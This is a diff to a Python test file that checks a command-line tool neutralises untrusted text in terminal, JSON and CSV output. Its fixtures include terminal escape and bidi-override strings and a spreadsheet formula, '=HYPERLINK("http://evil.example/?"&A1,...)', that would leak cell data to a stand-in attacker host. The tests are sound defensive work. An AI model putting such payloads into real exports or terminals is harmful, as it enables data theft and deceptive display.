@@ -302,7 +302,8 @@ def test_a_secret_in_a_source_url_is_never_shown_or_stored(tmp_path, site, recei
     assert not any("Zq8PRIVATEapikey" in s for s in shown)
 
 
-ESC_TITLE = "\x1b]0;owned\x07\x1b[2J\x1b[31m利率上限通知\u202e"
+ESC_TITLE = "\x1b]0;owned\x07\x1b[2J\x1b[31m利率上限通知\u202e \x9b31m C1 \u2067@all 点击\u2069 \u061c"
+LIVE = ("\x1b", "\x07", "\x9b", "\u202e", "\u2067", "\u2069", "\u061c")      # none may reach output as itself
 
 
 def test_untrusted_text_in_the_terminal_a_spreadsheet_and_the_report(tmp_path, site, receiver, rw):
@@ -326,14 +327,19 @@ items = "data"\nlink = "url"\ntitle = "title"\nbody = "body"
          {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": body + "<p>二</p>"}])
     assert rw("run", "--once", "-c", cfg).returncode == 0
 
-    for args in (["search", "利率"], ["alerts"], ["sources"]):
+    for args in (["search", "利率"], ["alerts"], ["sources"], ["search", "利率", "--json"], ["export"],
+                 ["export", "--format", "csv"], ["alerts", "--json"]):
         out = rw(*args, "-c", cfg)
-        assert "\x1b" not in out.stdout + out.stderr and "\u202e" not in out.stdout, args
+        assert out.returncode == 0, (args, out.stderr)
+        assert not any(c in out.stdout + out.stderr for c in LIVE), args
     assert "\\x1b]0;owned\\x07" in rw("search", "利率", "-c", cfg).stdout     # shown, escaped
+    exported = [json.loads(line) for line in rw("export", "-c", cfg).stdout.splitlines()]
+    assert any(r["title"] == ESC_TITLE for r in exported)                       # JSON keeps the text, escaped
 
     rows = list(csv.DictReader(io.StringIO(rw("export", "--format", "csv", "-c", cfg).stdout)))
     titles = {r["title"] for r in rows}
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"利率上限\")" in titles
+    assert "]0;owned[2J[31m利率上限通知 31m C1 @all 点击 " in titles     # the escapes' bytes dropped
     assert not any(t.startswith(("=", "+", "-", "@")) for r in rows for t in r.values())
 
     page = tmp_path / "page.html"
